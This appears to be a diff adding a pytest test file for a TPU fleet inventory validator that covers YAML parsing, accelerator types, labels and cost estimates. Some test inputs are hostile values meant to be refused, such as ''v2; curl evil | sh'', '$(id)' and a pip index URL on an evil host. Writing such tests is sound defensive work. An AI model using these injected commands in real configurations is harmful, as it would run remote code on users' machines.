@@ -1,0 +1,232 @@
+"""The cloud part of an inventory: what may be written, and what a slice consists of and costs."""
+
+from collections.abc import Mapping
+from pathlib import Path
+
+import pytest
+
+from chaoslab.core.errors import PlanError
+from chaoslab.fleet.remote.inventory import load
+from chaoslab.fleet.remote.settings import Ssh
+from chaoslab.fleet.settings import FleetRequest
+from chaoslab.fleet.tpu.accelerators import accelerator
+from chaoslab.fleet.tpu.inventory import Budget, Cloud, TpuEntry
+from chaoslab.fleet.tpu.lifecycle import estimate
+from chaoslab.fleet.tpu.prices import READ_ON, SOURCE, price
+from tests import hostile
+
+ENTRY: Mapping[str, str] = {
+    "type": "v5litepod-16", "runtime": "v2-alpha-tpuv5-lite", "zone": "us-east5-b",
+}  # fmt: skip
+TEXT = """\
+name: vines
+project: my-project
+ssh: {user: ubuntu}
+syncer: {host: 10.0.0.2}
+learners:
+  learner-0: {tpu: {type: v5litepod-16, runtime: v2-alpha-tpuv5-lite, zone: us-east5-b}}
+  learner-1: {hosts: [10.0.0.3], region: us}
+budget: {usd: 100, time: 4h}
+repair: {preemptions: 5, wait: 10m}
+prices: {v4: 3.22}
+"""
+
+
+def read_cloud(path: Path) -> Cloud:
+    return load(path).require_cloud()
+
+
+def written(folder: Path, text: str = TEXT) -> Path:
+    path = folder / "fleet.yaml"
+    path.write_text(text)
+    return path
+
+
+def test_slices_are_read_and_hosts_by_address_are_left_to_others(tmp_path: Path) -> None:
+    cloud = read_cloud(written(tmp_path))
+    assert [*cloud.slices] == ["learner-0"]
+    assert cloud.slices["learner-0"] == TpuEntry(**ENTRY)
+    assert cloud.budget == Budget(usd=100.0, time_s=4 * 3600.0)
+    assert (cloud.repair.preemptions, cloud.repair.failures, cloud.repair.wait_s) == (5, 3, 600.0)
+
+
+@pytest.mark.parametrize(
+    ("old", "new", "says"),
+    [
+        ("runtime:", "runtimes:", "6:41: .*unknown key `runtimes`; did you mean `runtime`"),
+        ("time: 4h", "time: 4", "8:26: .*write 4s"),
+        ("usd: 100, ", "", "usd.*is missing"),
+        ("v5litepod-16", "v5litepod", "accelerator type such as v5litepod-16"),
+        (
+            "v5litepod-16",
+            "v5litepod-5",
+            r"yaml:6:\d+: learners.learner-0.tpu.type: must be one of .*, got 'v5litepod-5",
+        ),
+        ("us-east5-b", "us-east5", "like us-east5-b"),
+        ("my-project", "My Project", "project.*like my-project"),
+        ("name: vines", "name: Vines", "name.*like my-fleet"),
+        ("v2-alpha-tpuv5-lite", "'v2; curl evil | sh'", "like v2-alpha-tpuv5-lite"),
+        ("prices: {v4: 3.22}", "endpoint: 10.0.0.9:80", "127.0.0.1:PORT"),
+        ("prices: {v4: 3.22}", "prices: {v5litepod: 1.2}", "no generation: use v2, v3, v4, v5e"),
+        ("prices: {v4: 3.22}", "endpoint: tpu.evil.example:443", "127.0.0.1:PORT"),
+    ],
+)
+def test_a_mistake_is_named_with_its_place(tmp_path: Path, old: str, new: str, says: str) -> None:
+    with pytest.raises(PlanError, match=says):
+        read_cloud(written(tmp_path, TEXT.replace(old, new, 1)))
+
+
+def test_a_slice_gives_its_learner_labels_unless_they_are_written(tmp_path: Path) -> None:
+    assert load(written(tmp_path)).labels == {
+        "learner-0": {"region": "us-east5", "generation": "v5e"},
+        "learner-1": {"region": "us"},
+    }
+    own = TEXT.replace("us-east5-b}}", "us-east5-b}, region: near, generation: mine}")
+    assert load(written(tmp_path, own)).labels["learner-0"] == {
+        "region": "near", "generation": "mine",
+    }  # fmt: skip
+
+
+def test_a_plan_has_as_many_processes_for_a_learner_as_its_slice_has_hosts(tmp_path: Path) -> None:
+    found = load(written(tmp_path))
+    found.require({"learner-0": 4, "learner-1": 1})
+    with pytest.raises(PlanError, match=r"v5litepod-16 has 4 hosts: write `training: {hosts: 4}`"):
+        found.require({"learner-0": 1})
+
+
+def test_the_ssh_fleet_refuses_slices_and_names_the_fleet_that_has_them(tmp_path: Path) -> None:
+    with pytest.raises(PlanError, match="--fleet tpu-vm"):
+        Ssh(inventory=str(written(tmp_path))).factory(FleetRequest(learners={"learner-1": 1}))
+
+
+@pytest.mark.parametrize("key", ["name", "project", "endpoint", "public_key"])
+def test_hostile_words_are_refused_wherever_they_stand(tmp_path: Path, key: str) -> None:
+    entry = TpuEntry(**ENTRY)
+    usual = {"name": "vines", "project": "my-project"}
+    for word in filter(None, hostile.words(tmp_path / "canary")):
+        with pytest.raises(PlanError):
+            Cloud(
+                **{**usual, key: word},  # type: ignore[arg-type]  # of text
+                slices={"learner-0": entry},
+                budget=Budget(usd=1.0, time_s=1.0),
+            )
+
+
+@pytest.mark.parametrize("key", ["type", "runtime", "zone", "network", "subnetwork", "reservation"])
+def test_hostile_words_are_refused_in_a_slice(tmp_path: Path, key: str) -> None:
+    for word in filter(None, hostile.words(tmp_path / "canary")):
+        with pytest.raises(PlanError):
+            TpuEntry(**{**ENTRY, key: word})
+
+
+@pytest.mark.parametrize("library", ["--index-url=http://evil.example", "jax\n--pre", ""])
+def test_a_library_is_no_option_of_pip(library: str) -> None:
+    with pytest.raises(PlanError, match="libraries"):
+        TpuEntry(**ENTRY, libraries=(library,))  # type: ignore[arg-type]  # mypy knows no keys
+
+
+def test_an_inventory_without_a_slice_is_none_of_the_cloud(tmp_path: Path) -> None:
+    text = "".join(line for line in TEXT.splitlines(keepends=True) if "learner-0" not in line)
+    with pytest.raises(PlanError, match="nothing to create"):
+        read_cloud(written(tmp_path, text))
+
+
+@pytest.mark.parametrize(
+    "more",
+    [
+        {"labels": {"Team": "a"}},
+        {"labels": {"team": "A b"}},
+        {"labels": {"chaoslab-fleet": "peas"}},
+        {"network": "$(id)"},
+        {"spot": True, "reservation": "mine"},
+    ],
+)
+def test_what_the_api_or_a_label_cannot_be_is_refused(more: Mapping[str, object]) -> None:
+    with pytest.raises(PlanError):
+        TpuEntry(**ENTRY, **more)  # type: ignore[arg-type]  # wrong on purpose
+
+
+@pytest.mark.parametrize(
+    ("type_", "generation", "chips", "hosts"),
+    [
+        ("v2-8", "v2", 4, 1),
+        ("v3-32", "v3", 16, 4),
+        ("v4-8", "v4", 4, 1),
+        ("v4-16", "v4", 8, 2),
+        ("v4-384", "v4", 192, 48),
+        ("v5litepod-1", "v5e", 1, 1),
+        ("v5litepod-8", "v5e", 8, 1),
+        ("v5litepod-16", "v5e", 16, 4),
+        ("v5p-8", "v5p", 4, 1),
+        ("v5p-128", "v5p", 64, 16),
+        ("v6e-8", "v6e", 8, 1),
+        ("v6e-256", "v6e", 256, 64),
+    ],
+)
+def test_chips_and_hosts_of_a_type(type_: str, generation: str, chips: int, hosts: int) -> None:
+    found = accelerator(type_)
+    assert (found.generation, found.chips, found.hosts) == (generation, chips, hosts)
+
+
+@pytest.mark.parametrize(
+    "type_",
+    ["v5p-7", "v9-8", "v4", "v4-0", "8", "v2-16", "v3-16", "v4-24", "v4-8320", "v5p-192",
+     "v5litepod-2", "v5litepod-5", "v5litepod-512", "v6e-12", "v6e-008"],
+)  # fmt: skip
+def test_what_is_no_type(type_: str) -> None:
+    with pytest.raises(PlanError):
+        accelerator(type_)
+
+
+def test_sizes_of_cubes_are_told_as_what_they_are() -> None:
+    told = r"v5p-8, v5p-16, v5p-32, v5p-64, or a multiple of 128 up to v5p-12288, got 'v5p-200'"
+    with pytest.raises(PlanError, match=told):
+        accelerator("v5p-200")
+    assert accelerator("v5p-12288").chips == 6144
+
+
+# ---------------------------------------------------------------- cost
+
+
+def cloud(*, usd: float = 1000.0, type_: str = "v5litepod-16", **prices: float) -> Cloud:
+    entry = TpuEntry(**{**ENTRY, "type": type_})
+    return Cloud(
+        name="vines",
+        project="my-project",
+        slices={"learner-0": entry, "learner-1": entry},
+        budget=Budget(usd=usd, time_s=7200.0),
+        prices=prices,
+    )
+
+
+def test_an_estimate_has_its_source_and_date() -> None:
+    found = estimate(cloud())
+    assert found.usd_per_hour == pytest.approx(2 * 16 * 1.2)
+    assert found.usd == pytest.approx(2 * found.usd_per_hour)
+    assert found.sources == (f"{SOURCE}, read on {READ_ON}",)
+
+
+def test_a_price_of_the_inventory_goes_before_the_listed_one() -> None:
+    found = estimate(cloud(v5e=0.5))
+    assert found.usd_per_hour == pytest.approx(16.0)
+    assert found.sources == ("prices of the inventory",)
+
+
+def test_spot_is_cheaper_and_depends_on_the_region() -> None:
+    there = price("v6e", "us-east5-b", is_spot=True, own={})
+    elsewhere = price("v6e", "us-east1-d", is_spot=True, own={})
+    on_demand = price("v6e", "us-east5-b", is_spot=False, own={})
+    assert there is not None
+    assert elsewhere is not None
+    assert on_demand is not None
+    assert elsewhere.usd_per_chip_hour < there.usd_per_chip_hour < on_demand.usd_per_chip_hour
+
+
+def test_more_than_the_budget_is_refused_with_the_time_that_it_allows() -> None:
+    with pytest.raises(PlanError, match=r"76\.80 USD in 2h.*allowed are 38\.4 USD.*`time: 1h`"):
+        estimate(cloud(usd=38.4))
+
+
+def test_an_unknown_price_is_refused_with_what_to_write() -> None:
+    with pytest.raises(PlanError, match=r"no price of v4 .*`prices: \{v4: USD per chip"):
+        estimate(cloud(type_="v4-8"))
